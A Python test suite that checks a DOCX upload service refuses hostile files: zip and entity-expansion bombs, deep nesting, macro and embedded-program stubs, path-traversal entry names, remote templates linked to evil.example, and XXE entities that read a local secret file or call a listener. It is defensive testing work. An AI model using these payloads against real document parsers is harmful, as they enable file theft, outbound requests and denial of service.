"""DOCX files made to harm: each is refused with a sentence, and nothing is fetched."""

import io
import random
import zipfile
from http.server import BaseHTTPRequestHandler, HTTPServer
from threading import Thread

import pytest

from tests.services.material.documents import docxs
from tests.services.material.documents.outcomes import DAMAGED, DEMANDING, outcome_of, outcomes_of


def a_zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in entries.items():
            package.writestr(name, content)
    return out.getvalue()


def with_entry(name: str, content: bytes) -> bytes:
    return docxs.changed(docxs.simple("A line of text"), {name: content})


def many_pictures() -> bytes:
    """Each packs as badly as a real picture may; together they are too much."""
    picture = (random.Random(1).randbytes(600) + bytes(63_400)) * 141
    return docxs.changed(
        docxs.simple("A line of text"), {f"word/media/{i}.png": picture for i in range(7)}
    )


def too_long_a_part() -> bytes:
    """XML that packs no better than usual, and is longer than any document's."""
    drawn = random.Random(1)
    pieces = (b"<b>%016x</b>" % drawn.getrandbits(64) + b" " * 300 for _ in range(34_000))
    return with_entry("word/a.xml", b"<a>" + b"".join(pieces) + b"</a>")


LAUGHS = (
    "<!DOCTYPE w ["
    + "<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]>"
)
NESTED = b"<w:p>" * 100_000 + b"</w:p>" * 100_000
TABLES = "<w:tbl><w:tr><w:tc>"
HOSTILE_DOCX = {
    "a bomb": (lambda: with_entry("word/media/a.xml", b" " * 100_000_000), DEMANDING),
    "a bomb of pictures": (lambda: with_entry("word/media/a.png", bytes(50_000_000)), DEMANDING),
    "many pictures, each within bounds": (many_pictures, DEMANDING),
    "one XML too long": (too_long_a_part, DEMANDING),
    "a bomb that is not declared": (
        lambda: docxs.understated(with_entry("word/a.xml", b"<a>" * 9_000_000), "word/a.xml", 100),
        DAMAGED,
    ),
    "a bomb of one place": (lambda: docxs.overlapping(60, 900_000), DEMANDING),
    "many entries": (
        lambda: docxs.changed(
            docxs.simple("Text"), {f"word/{n}.xml": b"<a/>" for n in range(3_000)}
        ),
        DEMANDING,
    ),
    "packages in packages": (
        lambda: with_entry(
            "word/embeddings/a.docx", a_zip({"a.zip": a_zip({"b": bytes(3_000_000)})})
        ),
        {"A line of text"},
    ),
    "elements in elements": (
        lambda: docxs.with_body(NESTED.decode()),
        DAMAGED | DEMANDING,
    ),
    "tables in tables": (
        lambda: docxs.with_body(TABLES * 80 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 80),
        DAMAGED | DEMANDING,
    ),
    "a billion laughs": (lambda: docxs.with_doctype(LAUGHS, "&a11;"), DAMAGED),
    "a document type": (lambda: docxs.with_doctype("<!DOCTYPE w>", "Text"), DAMAGED),
    "styles in a circle": (
        lambda: with_entry(
            "word/styles.xml",
            b"<w:styles xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>"
            b"<w:style w:type='paragraph' w:default='1' w:styleId='A'><w:basedOn w:val='A'/>"
            b"</w:style></w:styles>",
        ),
        {"A line of text"},
    ),
    "macros": (lambda: with_entry("word/vbaProject.bin", b"Sub AutoOpen()"), {"document_macros"}),
    "macros under another name": (
        lambda: with_entry("word/VBAPROJECT.BIN", b"Sub AutoOpen()"),
        {"document_macros"},
    ),
    "an embedded program": (
        lambda: with_entry("word/embeddings/oleObject1.bin", b"MZ"),
        {"document_macros"},
    ),
    "the type of a file with macros": (
        lambda: with_entry(
            "[Content_Types].xml", b"<Types a='application/x.macroEnabled.main+xml'/>"
        ),
        {"document_macros"},
    ),
    "a template from the web": (
        lambda: docxs.with_relation("attachedTemplate", "https://evil.example/a.dotm"),
        {"document_macros"},
    ),
    "a template from a share": (
        lambda: docxs.with_relation("attachedTemplate", "\\\\evil.example\\a\\b.dotm"),
        {"document_macros"},
    ),
    "a template from a share by address": (
        lambda: docxs.with_relation("attachedTemplate", "file://evil.example/a/b.dotm"),
        {"document_macros"},
    ),
    "a locked entry": (lambda: docxs.locked(docxs.simple("Text")), {"document_encrypted"}),
    "names that climb": (lambda: with_entry("../../evil.xml", b"<a/>"), DAMAGED),
    "a name from the root": (lambda: with_entry("/etc/evil.xml", b"<a/>"), DAMAGED),
    "not a document": (lambda: a_zip({"a.txt": b"text"}), {"upload_archive"}),
    "a spreadsheet": (
        lambda: a_zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<a/>"}),
        {"upload_other_format"},
    ),
    "no zip at all": (lambda: b"PK\x03\x04" + bytes(5_000), DAMAGED),
}


@pytest.mark.parametrize("kind", HOSTILE_DOCX)
async def test_a_hostile_docx_is_refused(kind):
    make, allowed = HOSTILE_DOCX[kind]
    content = make()

    assert len(content) <= 5_000_000
    assert await outcome_of(content, "cv.docx") in allowed


class Listener(BaseHTTPRequestHandler):
    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_error(404)

    def log_message(self, *_: object) -> None: ...


async def test_nothing_is_fetched_and_no_file_is_read(tmp_path):
    asked: list[str] = []
    handler = type("Asked", (Listener,), {"asked": asked})
    server = HTTPServer(("127.0.0.1", 0), handler)
    Thread(target=server.serve_forever, daemon=True).start()
    web, secret = f"http://127.0.0.1:{server.server_port}", tmp_path / "secret"
    secret.write_text("the secret of this machine")
    hostile = [
        docxs.with_doctype(f'<!DOCTYPE w [<!ENTITY e SYSTEM "{secret.as_uri()}">]>', "&e;"),
        docxs.with_doctype(f'<!DOCTYPE w [<!ENTITY e SYSTEM "{web}/entity">]>', "&e;"),
        docxs.with_doctype(f'<!DOCTYPE w SYSTEM "{web}/dtd">', "Text"),
        docxs.with_doctype(f'<!DOCTYPE w [<!ENTITY % p SYSTEM "{web}/parameter"> %p;]>', "Text"),
        docxs.with_relation("image", f"{web}/picture"),
        docxs.with_relation("attachedTemplate", f"{web}/template"),
    ]

    found = await outcomes_of(hostile, "cv.docx")
    server.shutdown()
    server.server_close()

    assert asked == []
    assert found == [*["document_damaged"] * 4, "A line of text", "document_macros"]
